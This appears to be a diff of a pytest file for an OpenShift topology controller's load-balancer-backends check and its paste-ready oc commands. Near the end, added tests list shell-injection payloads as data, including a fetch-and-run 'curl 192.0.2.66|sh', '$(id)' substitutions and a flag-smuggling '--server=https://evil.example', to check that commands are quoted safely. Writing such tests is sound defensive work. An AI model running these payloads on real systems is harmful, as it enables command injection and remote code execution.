@@ -1,9 +1,8 @@
-"""Who manages the load balancer of the control plane, and what counts as a confirmation that it leads to every node."""
+"""Who manages the load balancer, what confirms that it leads to every node, and commands that are safe to paste."""
 
 from __future__ import annotations
 
 import dataclasses
-import ipaddress
 import shlex
 from typing import Any
 
@@ -13,10 +12,11 @@ from hypothesis import strategies as st
 
 from topology_api.types import MESSAGE_LIMIT, TopologyPair, TopologyTransition
 from topology_api.vocabulary import AdvisoryName, CheckName, CheckStatus, Phase, Stage
-from topology_controller.checks import catalog, load_balancer
+from topology_controller import shell
+from topology_controller.checks import catalog, etcd, load_balancer
 from topology_controller.checks.load_balancer import Manager
 from topology_controller.decide import discovery
-from topology_controller.definitions import model, registry, settings
+from topology_controller.definitions import model, settings
 from topology_controller.observe import facts, parse
 from topology_controller.observe import load_balancer as observed
 
@@ -35,9 +35,6 @@ COMPLETED = TopologyTransition(
 )
 
 
-# -- what is read
-
-
 def infrastructure(platform: object, front: object = None, **status: object) -> facts.Infrastructure:
     """Infrastructure as the API server has it, with that object under the name of the platform."""
     key = platform.lower() if isinstance(platform, str) else "none"
@@ -51,34 +48,20 @@ def annotated(value: object) -> facts.Backends | None:
 
 
 @pytest.mark.parametrize(
-    ("value", "addresses"),
+    ("value", "read"),
     [
-        (f"{A},{B},{C}", (A, B, C)),
-        (f" {A} ,\t{B}\n{C},, ", (A, B, C)),
-        (f"{A} {B}", (A, B)),
-        ("2001:0DB8:0000::0001,[2001:db8::2]", ("2001:db8::1", "2001:db8::2")),
-        ("", ()),
-        (" , ", ()),
+        (f" {A} ,\t{B}\n{C},, ", facts.Backends((A, B, C))),
+        (f"{A} {B},{B}", facts.Backends((A, B), repeated=(B,))),
+        ("2001:0DB8:0000::0001,[2001:db8::2]", facts.Backends(("2001:db8::1", "2001:db8::2"))),
+        (" , ", facts.Backends(())),
+        (f"{A},foo", facts.Backends((A,), wrong=((2, "foo"),))),
+        ("10.0.0.0/24", facts.Backends(wrong=((1, "10.0.0.0/24"),))),
+        (f"{A}:6443,{B}", facts.Backends((B,), wrong=((1, f"{A}:6443"),))),
     ],
 )
-def test_an_annotation_is_addresses_between_commas_and_blanks(value: str, addresses: tuple[str, ...]) -> None:
-    assert annotated(value) == facts.Backends(addresses)
-
-
-@pytest.mark.parametrize(
-    ("value", "wrong"),
-    [
-        (f"{A},foo", ((2, "foo"),)),
-        ("master-1", ((1, "master-1"),)),
-        ("10.0.0.0/24", ((1, "10.0.0.0/24"),)),
-        (f"{A}:6443,{B}", ((1, f"{A}:6443"),)),
-        ("192.0.2.010", ((1, "192.0.2.010"),)),
-        (f"{A};{B}", ((1, f"{A};{B}"),)),
-        ("all of them", ((1, "all"), (2, "of"), (3, "them"))),
-    ],
-)
-def test_what_is_no_address_is_kept_with_its_place(value: str, wrong: tuple[tuple[int, str], ...]) -> None:
-    assert (annotated(value) or facts.Backends()).wrong == wrong
+def test_an_annotation_is_addresses_between_commas_and_blanks(value: str, read: facts.Backends) -> None:
+    """What is no address is kept with its place."""
+    assert annotated(value) == read
 
 
 NO_TEXT: tuple[object, ...] = (None, 7, [A], {})
@@ -93,19 +76,6 @@ def test_what_is_longer_than_it_may_be_is_not_read_and_what_is_no_text_is_not_th
 
 
 IPS = st.ip_addresses().map(str)
-WRITTEN = IPS.flatmap(lambda ip: st.sampled_from((ip, ipaddress.ip_address(ip).exploded, ip.upper())))
-BLANKS = st.text(" \t\n,", max_size=3)
-
-
-@given(st.lists(st.tuples(WRITTEN, BLANKS), max_size=12))
-def test_however_addresses_are_written_they_are_the_same(entries: list[tuple[str, str]]) -> None:
-    read = annotated("".join(f"{text},{blank}" for text, blank in entries))
-    assert read is not None
-    assert read.addresses == tuple(dict.fromkeys(str(ipaddress.ip_address(text)) for text, _ in entries))
-    assert len(read.addresses) + len(read.repeated) <= len(entries) or not entries
-    assert not read.wrong
-
-
 ANYTHING: st.SearchStrategy[Any] = st.recursive(
     st.none()
     | st.booleans()
@@ -152,27 +122,6 @@ def test_whatever_stands_there_the_rest_is_read_and_only_an_address_makes_it_the
         assert told.command == COMMAND + ",".join(worlds.ADDRESSES)
 
 
-@pytest.mark.parametrize(
-    ("url", "host"),
-    [
-        ("https://api.example.com:6443", "api.example.com"),
-        (f"https://{A}:6443", A),
-        ("https://[2001:DB8:0::1]:6443", "2001:db8::1"),
-        ("api.example.com", None),
-        ("https://api example.com", None),
-        ("https://\x1b[2J.example.com", None),
-        (f"https://{'a' * 2000}", None),
-        ("", None),
-        (7, None),
-    ],
-)
-def test_the_host_of_a_url(url: object, host: str | None) -> None:
-    front = infrastructure("None", apiServerURL=url, apiServerInternalURI=url).load_balancer
-    assert front == facts.LoadBalancer(api_host=host, api_internal_host=host)
-
-
-# -- who manages it
-
 VIPS = {"apiServerInternalIPs": ["192.0.2.5", "2001:0db8::5"]}
 BARE: tuple[object, ...] = (None, {"loadBalancer": {"type": "OpenShiftManagedDefault"}}, {"apiServerInternalIPs": []})
 USER = {"loadBalancer": {"type": "UserManaged"}}
@@ -210,13 +159,6 @@ def test_who_manages_the_load_balancer(platform: str | None, front: object, by: 
     assert why in managed.why
 
 
-def test_of_an_infrastructure_that_cannot_be_read_it_is_not_known() -> None:
-    assert load_balancer.manager(worlds.BROKEN) == load_balancer.Managed(Manager.UNKNOWN, str(worlds.BROKEN))
-
-
-# -- the advisory
-
-
 def cluster(backends: facts.Backends | None, **changes: Any) -> facts.Facts:
     return dataclasses.replace(worlds.healthy(), own_operator=worlds.own(backends=backends), **changes)
 
@@ -237,35 +179,16 @@ def test_it_names_every_node_until_each_is_confirmed(record: TopologyTransition 
     front = facts.LoadBalancer(api_host="api.example.com", api_internal_host="api-int.example.com")
     known = cluster(None, infrastructure=worlds.infrastructure(load_balancer=front))
     message, command = told(known, record=record) or ("", "")
-    assert message == (
-        "On platform None the cluster manages no load balancer, and nothing inside can see where api.example.com and "
-        f"api-int.example.com lead. Not confirmed: {A} (node-0), {B} (node-1), {C} (node-2). Let the load balancer "
-        "lead to every control-plane node on 6443 and, from inside only, 22623; then the command confirms it"
-    )
+    assert "where api.example.com and api-int.example.com lead" in message
+    assert f"Not confirmed: {A} (node-0), {B} (node-1), {C} (node-2). " in message
     assert command == f"{COMMAND}{A},{B},{C}"
     message, command = told(cluster(facts.Backends((C, A))), record=record) or ("", "")
     assert f"Not confirmed: {B} (node-1). Confirmed: {A} (node-0), {C} (node-2). " in message
     assert command == f"{COMMAND}{A},{B},{C}"
     assert told(cluster(facts.Backends((C, A, B))), record=record) is None
-
-
-def test_a_node_that_joins_or_is_replaced_is_asked_for_again() -> None:
-    confirmed = facts.Backends(worlds.ADDRESSES)
-    for later in (nodes((A,), (B,), (C,), ("192.0.2.13",)), nodes((A,), (B,), (), ("192.0.2.13",))):
-        message, _ = told(cluster(confirmed, control_plane_nodes=later)) or ("", "")
-        assert "192.0.2.13 (node-3)" in message
-    assert told(cluster(confirmed, control_plane_nodes=nodes((A,), (B,)))) is None, "one that left is no reason"
-
-
-def test_its_command_confirms_what_it_asks_for() -> None:
-    """Of two families one address is enough, and what was confirmed stays confirmed."""
-    both = nodes((A, "2001:db8::1"), ("2001:db8::2",), (C, "2001:db8::3"))
-    known = cluster(facts.Backends(("2001:db8::3", "192.0.2.99")), control_plane_nodes=both)
-    message, command = told(known) or ("", "")
-    assert command == f"{COMMAND}{A},2001:db8::2,2001:db8::3"
-    assert "No control-plane node has 192.0.2.99" in message
-    done = annotated(shlex.split(command)[-1].partition("=")[2])
-    assert told(dataclasses.replace(known, own_operator=worlds.own(backends=done))) is None
+    joined = nodes((A,), (B,), (C,), ("192.0.2.13",))
+    message, _ = told(cluster(facts.Backends(worlds.ADDRESSES), control_plane_nodes=joined), record=record) or ("", "")
+    assert "Not confirmed: 192.0.2.13 (node-3). " in message
 
 
 def test_an_entry_that_is_no_address_is_quoted_and_nothing_is_confirmed_by_such_an_annotation() -> None:
@@ -276,23 +199,6 @@ def test_an_entry_that_is_no_address_is_quoted_and_nothing_is_confirmed_by_such_
     assert "\x1b" not in message
     message, _ = told(cluster(facts.Backends(too_long=True))) or ("", "")
     assert "longer than 4096 bytes" in message
-
-
-def test_what_is_listed_twice_is_said_and_confirms_all_the_same() -> None:
-    assert told(cluster(annotated(f"{A},{B},{C},{B}"))) is None
-    message, _ = told(cluster(annotated(f"{A},{B},{B}"))) or ("", "")
-    assert f"It lists {B} more than once" in message
-
-
-def test_an_api_at_the_address_of_a_node_is_that_node() -> None:
-    front = facts.LoadBalancer(api_host=A, api_internal_host="api-int.example.com")
-    message, _ = told(cluster(None, infrastructure=worlds.infrastructure(load_balancer=front))) or ("", "")
-    assert f"{A} is node node-0 itself: without it there is no API. " in message
-
-
-@pytest.mark.parametrize("platform", ["AWS", "BareMetal"])
-def test_it_is_for_what_is_outside_only(platform: str) -> None:
-    assert told(cluster(None, infrastructure=worlds.infrastructure(platform=platform))) is None
 
 
 def test_it_is_for_a_control_plane_that_changes_and_for_what_could_be_read() -> None:
@@ -318,23 +224,10 @@ def test_a_message_and_a_command_fit_whatever_there_is() -> None:
         worlds.node(0, name=f"{'n' * 200}-{index}", addresses=(f"192.0.{index // 250}.{index % 250}",))
         for index in range(1000)
     )
-    message, command = told(cluster(facts.Backends(("192.0.2.10",)), control_plane_nodes=many)) or ("", "")
-    assert len(message) <= MESSAGE_LIMIT
-    assert command == "oc get nodes -l node-role.kubernetes.io/control-plane -o wide", (
-        "half a command is worse than none"
-    )
-    message, command = told(cluster(None, control_plane_nodes=nodes(()))) or ("", "")
-    assert command == "oc get nodes -l node-role.kubernetes.io/control-plane -o wide"
-    assert "node-0 (has no InternalIP)" in message
-    _, command = told(cluster(None, control_plane_nodes=many[:250])) or ("", "")
-    assert len(command) <= MESSAGE_LIMIT
-    assert command.startswith(COMMAND)
-    assert annotated(command.removeprefix(COMMAND)) == facts.Backends(
-        tuple(node.addresses[0] for node in sorted(many[:250], key=lambda node: node.name))
-    )
-
-
-# -- the check
+    for listed, command in ((many, "oc get nodes -l "), (nodes(()), "oc get nodes -l "), (many[:250], COMMAND)):
+        message, told_command = told(cluster(None, control_plane_nodes=listed)) or ("", "")
+        assert max(len(message), len(told_command)) <= MESSAGE_LIMIT
+        assert told_command.startswith(command), "half a command is worse than none"
 
 
 def asked(known: facts.Facts, definition: model.Definition | None = None) -> list[Any]:
@@ -347,10 +240,8 @@ def asked(known: facts.Facts, definition: model.Definition | None = None) -> lis
 def test_it_waits_for_every_node_and_names_the_advisory() -> None:
     (answer,) = asked(cluster(facts.Backends((A,))))
     assert answer.status is CheckStatus.UNMET
-    assert answer.message == (
-        f"Wanted: {B} (node-1), {C} (node-2) in annotation {ANNOTATION} of ClusterOperator topology. Found: {A}. See "
-        f"advisory {NAME}"
-    )
+    assert f"Wanted: {B} (node-1), {C} (node-2) in annotation" in answer.message
+    assert NAME in answer.message
     assert (answer.count.have, answer.count.wanted) == (1, 3)
     assert [(finding.name, finding.met) for finding in answer.findings] == [
         ("node-0", True),
@@ -363,30 +254,6 @@ def test_it_waits_for_every_node_and_names_the_advisory() -> None:
     assert answer.status is CheckStatus.UNMET
     assert "Wanted: addresses only in annotation" in answer.message
     assert 'Found: entry 4 ("foo") is no address' in answer.message
-
-
-def test_it_is_met_as_the_annotation_says_and_names_what_is_no_node() -> None:
-    (answer,) = asked(cluster(facts.Backends((*worlds.ADDRESSES, "192.0.2.99"))))
-    assert answer.status is CheckStatus.MET
-    assert answer.message == (
-        f"As annotation {ANNOTATION} of ClusterOperator topology names {A} (node-0), {B} (node-1), {C} (node-2); "
-        "nothing inside the cluster can look at the load balancer. No control-plane node has 192.0.2.99"
-    )
-
-
-@pytest.mark.parametrize(
-    ("front", "status", "words"),
-    [
-        (VIPS, CheckStatus.MET, "The cluster manages its load balancer itself, at 192.0.2.5, 2001:db8::5"),
-        (None, CheckStatus.UNKNOWN, "has no apiServerInternalIPs for it"),
-        (USER, CheckStatus.UNMET, f"Wanted: {A} (node-0)"),
-        ({"loadBalancer": {"type": "Odd"}}, CheckStatus.UNKNOWN, 'loadBalancer.type "Odd"'),
-    ],
-)
-def test_on_bare_metal_it_goes_by_who_manages_it(front: object, status: CheckStatus, words: str) -> None:
-    (answer,) = asked(cluster(None, infrastructure=infrastructure("BareMetal", front)))
-    assert answer.status is status
-    assert words in answer.message
 
 
 def test_what_was_not_read_is_never_met() -> None:
@@ -410,11 +277,6 @@ def test_a_definition_may_ask_it_by_itself_and_then_the_message_has_the_command(
         model.CheckSpec.model_validate_json('{"check": "LoadBalancerBackends", "atLeast": 3}')
 
 
-def test_no_shipped_definition_asks_it_and_it_is_never_acceptable() -> None:
-    assert asked(cluster(None), worlds.COMPACT) == []
-    assert CheckName.LOAD_BALANCER_BACKENDS not in registry.ACCEPTABLE_CHECKS
-
-
 def test_what_is_available_is_judged_by_it_where_the_configuration_asks() -> None:
     known = worlds.unread(cluster(None), "acceptances")
     for transitions, possible in ((worlds.TRANSITIONS, True), (STRICT, False)):
@@ -424,11 +286,46 @@ def test_what_is_available_is_judged_by_it_where_the_configuration_asks() -> Non
         assert [blocker.name for blocker in item.blockers] == ([] if possible else ["LoadBalancerBackends"])
 
 
-def test_a_request_waits_for_it_and_shows_what_is_required() -> None:
-    decided = worlds.decide(cluster(None), transitions=STRICT)
-    assert decided.phase is Phase.PENDING
-    assert "1 of 11 preflight checks not met: LoadBalancerBackends (0 of 3)" in decided.note
-    assert decided.record is not None
-    assert [item.name for item in decided.record.advisories] == [NAME]
-    confirmed = worlds.decide(worlds.healthy(), transitions=STRICT)
-    assert confirmed.phase is Phase.ADMITTING
+SCOPES = ["fe80::1%;curl 192.0.2.66|sh;#", "fe80::9%$(id)", "fe80::1%eth0", "[fe80::1%eth0]"]
+EVIL = ["x'; touch /tmp/x; echo '", "$(id)", "`id`", "a b", "\\'", 'a"b', "*", "~root", "-x", "a\\", *SCOPES]
+
+
+def pasted(text: str) -> list[str]:
+    """The words of the command at the end of a message."""
+    return shlex.split(text[text.index("oc ") :])
+
+
+@pytest.mark.parametrize("evil", [*EVIL, "--server=https://evil.example"])
+def test_no_value_is_taken_for_a_flag_or_for_several_words(evil: str) -> None:
+    last = shell.command("oc adm policy add-cluster-role-to-user reader {}", evil)
+    behind = [*(["--"] if evil.startswith("-") else []), evil]
+    assert shlex.split(last) == ["oc", "adm", "policy", "add-cluster-role-to-user", "reader", *behind]
+    assert shlex.split(shell.command("oc -n {} get x={}", evil, evil)) == ["oc", "-n", evil, "get", f"x={evil}"]
+
+
+@pytest.mark.parametrize("evil", SCOPES)
+def test_an_address_with_a_scope_is_no_backend_and_no_voter(evil: str) -> None:
+    raw = {
+        "metadata": {"name": "node-0", "labels": {"node-role.kubernetes.io/master": ""}},
+        "status": {"addresses": [{"type": "InternalIP", "address": evil}]},
+    }
+    node = parse.node(raw)
+    assert isinstance(node, facts.Node)
+    assert node.addresses == ()
+    assert (
+        load_balancer.compare([node], None).command == "oc get nodes -l node-role.kubernetes.io/control-plane -o wide"
+    )
+    read = observed.backends(evil)
+    assert read is not None
+    assert read.addresses == ()
+    entries = tuple(zip(worlds.MEMBERS, (*worlds.ADDRESSES[:2], evil), strict=True))
+    voters = etcd.members(worlds.healthy(etcd_endpoints=facts.EtcdEndpoints(entries)))
+    assert isinstance(voters, facts.Unobserved)
+    assert "no IP address" in voters.why
+
+
+@pytest.mark.parametrize("evil", EVIL)
+def test_the_command_that_confirms_backends(evil: str) -> None:
+    node = worlds.node(addresses=(evil,))
+    words = pasted(load_balancer.compare([node], None).command)
+    assert words[-1] == f"topology.openshift.io/load-balancer-backends={evil}"
